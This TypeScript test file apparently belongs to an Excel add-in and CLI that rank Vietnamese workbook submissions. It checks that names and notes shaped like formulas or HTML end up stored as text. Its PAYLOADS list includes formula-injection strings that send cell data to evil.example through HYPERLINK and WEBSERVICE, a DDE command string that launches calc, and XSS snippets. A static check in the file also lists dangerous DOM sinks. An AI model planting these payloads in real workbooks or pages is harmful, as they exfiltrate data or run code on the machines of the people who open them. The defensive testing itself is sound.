/**
 * Formula and script injection: names, notes, positions, achievements and codes that look like
 * formulas or HTML are data. They are written as text — by the .xlsx writer (`rank --out`, the real
 * CLI) and by the Office.js adapter (strict stand-in) — and the task pane shows them as text.
 */
import * as fs from 'fs';
import * as path from 'path';
import JSZip from 'jszip';
import { INDIVIDUAL, INPUT_SHEETS, SAVING, SHEETS } from '../src/core/format';
import { WorkbookContent, inputSheetPlans } from '../src/core/template';
import { applyImport, rank, validate } from '../src/excel/actions';
import { readXlsxGrid } from '../src/node/xlsx-read';
import { writeWorkbook } from '../src/node/xlsx-write';
import { baseContent } from '../src/node/bad-fixtures';
import { bookWith, gridOf, masterContent, runOf } from './support/standin';
import { ensureBuilt, tempDir, thidua } from './support/xlsx-cli';
import { DERIVED_FORMULA, xmlUnescape } from './support/derived';

const PAYLOADS = [
  '=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', '=WEBSERVICE("http://evil.example/"&A1)',
  "=cmd|' /C calc'!A0", '<img src=x onerror=alert(1)>', '<script>alert("x")</script>', '=IMPORTXML(CONCAT("http://e/?",A1),"//a")',
  '\t=1+1', '=1+1\n', "'=quoted",
] as const;

/** A valid PC05 submission whose free-text cells all carry payloads; a unit code carries one too. */
function injected(): WorkbookContent {
  const c = baseContent();
  const p = (i: number) => PAYLOADS[i % PAYLOADS.length];
  return {
    ...c,
    info: { ...c.info, preparer: PAYLOADS[4], phone: PAYLOADS[1] },
    saving: [
      ...c.saving!.map((r, i) => ({ ...r, unitName: p(i), note: p(i + 3) })),
      // A code that is a formula is not a code: a type-error whose message quotes it.
      { unitCode: PAYLOADS[0], unitName: PAYLOADS[6], level: 'Điện lực', companyCode: 'PC05', commercial: 1000, saved: 10, note: PAYLOADS[7] },
    ],
    individuals: [
      ...c.individuals!.map((r, i) => ({ ...r, name: p(i + 6), position: p(i + 8), achievement: p(i + 10) })),
      { name: PAYLOADS[3], unitCode: 'PC05D01', area: 'Tiết kiệm điện', achievement: PAYLOADS[5], points: 50 },
    ],
  };
}

async function sheetXml(file: string): Promise<{ sheets: Map<string, string>; strings: string[] }> {
  const zip = await JSZip.loadAsync(fs.readFileSync(file));
  const sheets = new Map<string, string>();
  for (const n of Object.keys(zip.files).filter((x) => /^xl\/worksheets\/[^/]+\.xml$/.test(x))) sheets.set(n, await zip.file(n)!.async('string'));
  const shared = zip.file('xl/sharedStrings.xml') ? await zip.file('xl/sharedStrings.xml')!.async('string') : '';
  const unescape = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&#x([0-9a-f]+);/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16))).replace(/&amp;/g, '&');
  const strings = [...shared.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => [...m[1].matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => unescape(t[1])).join(''));
  return { sheets, strings };
}

describe('the .xlsx writer, through the real CLI', () => {
  let dir: string;
  beforeAll(() => { ensureBuilt(); dir = tempDir('thidua-inject-'); });
  afterAll(() => { fs.rmSync(dir, { recursive: true, force: true }); });

  test('rank --out: no formula anywhere in the output, every payload stored and read back as the same text', async () => {
    const input = path.join(dir, 'pc05.xlsx');
    await writeWorkbook(inputSheetPlans(injected(), { year: 2012 }), input);
    // The input itself: only the template's derived columns are formulas.
    const inXml = await sheetXml(input);
    const inFormulas = [...inXml.sheets.values()].flatMap((x) => [...x.matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]));
    expect(inFormulas.filter((f) => !DERIVED_FORMULA.test(xmlUnescape(f)))).toEqual([]);
    expect(inFormulas.length).toBeGreaterThan(0);

    const out = path.join(dir, 'xep-hang.xlsx');
    const r = thidua(['rank', input, '--out', out, '--json']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(1); // the formula-shaped unit code is an error
    const json = JSON.parse(r.stdout);
    expect(json.issues).toEqual(expect.arrayContaining([expect.objectContaining({ code: 'type-error', sheet: SAVING.sheet, field: SAVING.fields[0].header })]));

    const { sheets, strings } = await sheetXml(out);
    for (const [name, xml] of sheets) expect({ name, formulas: xml.match(/<f[ >]/g) ?? [] }).toEqual({ name, formulas: [] });
    // Names on Xếp hạng and Cá nhân rows, stored as strings (t="s" or inline), never as <f>.
    for (const s of [PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], PAYLOADS[6], PAYLOADS[3], PAYLOADS[8]]) {
      const shown = json.categories.flatMap((c: { entries: { name: string }[] }) => c.entries.map((e) => e.name));
      if (shown.includes(s)) expect(strings).toContain(s);
    }
    const grid = await readXlsxGrid(out);
    const values = new Set(grid.sheets.flatMap((s) => s.rows.flat()));
    const names = json.categories.flatMap((c: { entries: { name: string }[] }) => c.entries.map((e) => e.name));
    for (const n of names) expect(values).toContain(n);
    // "+1" and "-1" stay text, not the numbers 1 and -1.
    expect(names).toEqual(expect.arrayContaining([PAYLOADS[1], PAYLOADS[2]]));
    expect(values).toContain(PAYLOADS[1]);
    // The report quotes the bad code inside its message, as text.
    const report = grid.sheets.find((s) => s.name === SHEETS.report)!;
    expect(report.rows.flat().some((v) => typeof v === 'string' && v.includes(`"${PAYLOADS[0]}"`))).toBe(true);
  });
});

describe('the Office.js adapter (strict stand-in: "=…" becomes a formula unless the cell is text)', () => {
  const isPayload = (v: unknown) => typeof v === 'string' && (PAYLOADS as readonly string[]).includes(v);

  test('validate and rank: no cell of Kiểm tra or Xếp hạng is a formula; payload cells are text-formatted', async () => {
    const wb = await bookWith(injected());
    const run = runOf(wb);
    await validate(run, '2013-01-10 08:00');
    await rank(run, '2013-01-10 08:00');
    let seen = 0;
    for (const name of [SHEETS.report, SHEETS.ranking]) {
      for (const [addr, m] of wb.sheet(name)!.cells) {
        expect({ name, addr, f: m.f }).toEqual({ name, addr, f: undefined });
        if (isPayload(m.v)) { seen++; expect({ name, addr, fmt: m.fmt }).toEqual({ name, addr, fmt: '@' }); }
      }
    }
    expect(seen).toBeGreaterThanOrEqual(6);
  });

  test('import into the master: payloads land as text; the only formulas are the derived =EVN.* columns', async () => {
    const wb = await bookWith(masterContent([{ code: 'PC01', units: 2 }]));
    const run = runOf(wb);
    const sub = injected();
    const clean = { ...sub, saving: sub.saving!.slice(0, 3) }; // a submission with an error is rejected whole
    const plan = await applyImport(run, [{ file: 'pc05.xlsx', grid: await gridOf(clean, 'pc05.xlsx') }], []);
    expect(plan.outcomes[0].status).toBe('added');
    let seen = 0;
    for (const name of INPUT_SHEETS) {
      for (const [addr, m] of wb.sheet(name)!.cells) {
        if (m.f) expect({ name, addr, f: m.f }).toEqual({ name, addr, f: expect.stringMatching(DERIVED_FORMULA) });
        if (isPayload(m.v)) { seen++; expect({ name, addr, fmt: m.fmt }).toEqual({ name, addr, fmt: '@' }); }
      }
    }
    expect(seen).toBeGreaterThanOrEqual(6);
    const people = wb.toGrid().sheets.find((s) => s.name === INDIVIDUAL.sheet)!.rows.flat();
    expect(people).toEqual(expect.arrayContaining([PAYLOADS[3], PAYLOADS[5]]));
  });
});

test('the task pane never parses text as HTML or code (static check of its sources)', () => {
  const dirs = ['taskpane', 'excel'].map((d) => path.join(__dirname, '..', 'src', d));
  const sources = dirs.flatMap((d) => fs.readdirSync(d).filter((n) => n.endsWith('.ts')).map((n) => path.join(d, n)));
  expect(sources.length).toBeGreaterThan(3);
  for (const f of sources) {
    const code = fs.readFileSync(f, 'utf8').replace(/\/\*[\s\S]*?\*\/|\/\/.*$/gm, '');
    expect({ f, hits: code.match(/\.(innerHTML|outerHTML)\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function\(|\.srcdoc\b|setAttribute\(\s*['"]on/g) ?? [] }).toEqual({ f, hits: [] });
  }
});
